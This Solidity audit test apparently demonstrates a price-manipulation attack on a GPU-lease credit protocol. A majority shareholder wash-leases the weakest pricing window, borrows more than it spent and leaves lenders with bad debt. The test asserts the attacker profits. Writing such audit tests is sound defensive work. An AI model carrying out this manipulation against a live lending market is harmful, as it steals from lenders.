// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {LeaseClass} from "../../../contracts/interfaces/ILeaseMarket.sol";
import {CreditFixture} from "../utils/CreditFixture.sol";

/// @notice Audit: the lending price is the MIN of K windows, so the marginal effect of spending S is not
///         bounded by LTV x M/K x S: spending only in the single weakest window lifts the min to the next
///         lowest window. A genuine lessee paid for K-1 windows and left; the attacker (a 60 % holder)
///         washes only the last, empty window, borrows more than it spent, and the lenders eat the debt.
contract AuditWeakWindowTest is CreditFixture {
    uint256 private constant HOLDERS_BPS = 8_500;

    event log_named_uint(string key, uint256 val);
    event log_named_int(string key, int256 val);

    function _finalizeTo(uint64 endExclusive) internal {
        while (market.ledgerOf(assetId).nextEpochToFinalize < endExclusive) runEpochs(1, 10_000);
    }

    function test_audit_weakestWindowFill_breaksClaimedBound() public {
        // a real third-party lessee rents everything for three windows (epochs 1..18), then leaves
        uint256 organic = openLease(lessee, GPUS, uint64(3 * NAV_WINDOW), LeaseClass.Firm);
        _finalizeTo(market.leaseOf(organic).endEpoch);
        // the attacker (investor, 600 of 1,000 shares) collects its legitimate holder revenue first
        vm.prank(borrower);
        shares.claim(borrower);

        // counterfactual: nobody fills the next window -> the lending price is 0 (the asset went idle)
        uint256 snap = vm.snapshotState();
        runEpochs(NAV_WINDOW + 1, 10_000);
        (uint256 idlePrice,,, bool idleSeasoned) = nav.lendingPrice();
        assertTrue(idleSeasoned, "seasoned");
        assertEq(idlePrice, 0, "without the wash: nothing to lend");
        vm.revertToState(snap);

        // the attack: lease every GPU for ONE window (the weakest one), i.e. spend S once
        vm.prank(admin);
        usdc.mint(borrower, 0); // no-op, keeps balances explicit
        uint256 startBal = usdc.balanceOf(borrower);
        vm.prank(borrower);
        usdc.approve(address(market), type(uint256).max);
        vm.prank(borrower);
        uint256 washId = market.openLease(assetId, GPUS, NAV_WINDOW, LeaseClass.Firm, type(uint256).max);
        uint256 spent = startBal - usdc.balanceOf(borrower);
        _finalizeTo(market.leaseOf(washId).endEpoch);
        vm.prank(borrower);
        shares.claim(borrower); // its 60 % of the holders' part of S comes back

        depositCollateral(600e18);
        uint256 capacity = credit.borrowCapacity(assetId, borrower);
        uint256 claimedBound = spent * HOLDERS_BPS / 10_000 * 600 / 1_000 * 5_000 / 10_000 * LENDING_LIFE_WINDOWS
            / TRACK_RECORD_WINDOWS;
        emit log_named_uint("S spent on the wash lease", spent);
        emit log_named_uint("borrow capacity bought", capacity);
        emit log_named_uint("claimed bound LTV*M/K*0.85*0.6*S", claimedBound);

        borrow(capacity);
        // the asset stays idle for one more window: the attacker's window is no longer the newest, an idle one is
        runEpochs(NAV_WINDOW + 1, 10_000);
        (uint256 p,,,) = nav.lendingPrice();
        assertEq(p, 0, "idle again: price 0");
        vm.prank(liquidator);
        credit.liquidate(assetId, borrower, type(uint256).max, liquidator);
        // attacker's surplus revenue (if any) is its own
        vm.prank(borrower);
        try credit.claimSurplus(assetId, borrower) {} catch {}
        int256 pnl = int256(usdc.balanceOf(borrower)) - int256(startBal);
        emit log_named_uint("lenders' bad debt", credit.badDebt());
        emit log_named_int("attacker USDC P&L over the attack", pnl);

        assertTrue(pnl > 0, "the wash paid");
        assertLe(capacity, claimedBound + 1, "BOUND: capacity <= LTV x M/K x holders' part x pledged x S");
        assertLt(capacity, spent, "BOUND: capacity < S");
    }
}
